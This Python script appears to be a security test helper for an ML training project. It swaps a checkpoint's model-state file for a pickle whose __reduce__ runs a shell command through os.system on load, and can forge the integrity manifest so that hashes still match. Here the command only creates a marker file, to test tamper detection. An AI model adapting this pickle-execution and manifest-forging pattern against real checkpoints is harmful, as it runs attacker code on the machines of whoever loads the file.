"""Replace a checkpoint's model states with a pickle that runs ``touch MARKER`` when unpickled.

    python craft_pickle.py CHECKPOINT_DIR MARKER forge|keep

``forge`` also rewrites ``COMPLETE`` so that the sizes and hashes match (an attacker who can
write the run directory can do that too); ``keep`` leaves the manifest, so the hash check
catches the swap. Used by ``corruption_table.sh``.
"""

import json
import os
import sys
from pathlib import Path

import torch

from opd.training.checkpoint import MARKER, file_manifest


class Exploit:
    def __init__(self, marker: str):
        self.marker = marker

    def __reduce__(self):
        return (os.system, (f"touch {self.marker}",))


checkpoint, marker, mode = Path(sys.argv[1]), sys.argv[2], sys.argv[3]
states = next((checkpoint / "ds" / "state").glob("*model_states.pt"))
torch.save({"module": Exploit(marker)}, states)
if mode == "forge":
    record = json.loads((checkpoint / MARKER).read_text())
    record["files"] = file_manifest(checkpoint)
    (checkpoint / MARKER).write_text(json.dumps(record))
